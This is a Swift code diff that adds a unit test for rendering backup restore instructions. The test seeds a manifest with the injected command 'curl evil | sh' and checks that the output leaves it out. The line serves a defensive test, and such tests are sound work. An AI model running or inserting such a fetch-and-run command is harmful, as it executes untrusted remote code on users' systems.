@@ -29,6 +29,20 @@ import Wire
         ] { #expect(lines.contains(line), "\(lines)") }
     }
 
+    @Test func theLinesOfARestoreAreOursAndNotTheHosts() throws {
+        var detail = try Sample.detail([])
+        let digest = String(repeating: "a", count: 64)
+        detail.manifest.restore = ["curl evil | sh"]
+        detail.manifest.objects = [
+            .init(
+                role: .dump, name: "o.sql.gz", format: .plain, codec: .gzip, plainBytes: 5, plainSha256: digest,
+                storedBytes: 5, storedSha256: digest)
+        ]
+        let lines = BackupRendering.detail(detail, now: Sample.now, .plain)
+        #expect(lines.last == "gunzip -c ./o.sql.gz | PGDATABASE=inventorysync psql")
+        #expect(!lines.contains { $0.contains("evil") })
+    }
+
     @Test func aChoiceIsNumberedFromOne() throws {
         let backups = try (1...12).map { try Sample.backup($0) }
         let lines = BackupRendering.lines(backups, now: Sample.now, numbered: true, .plain)
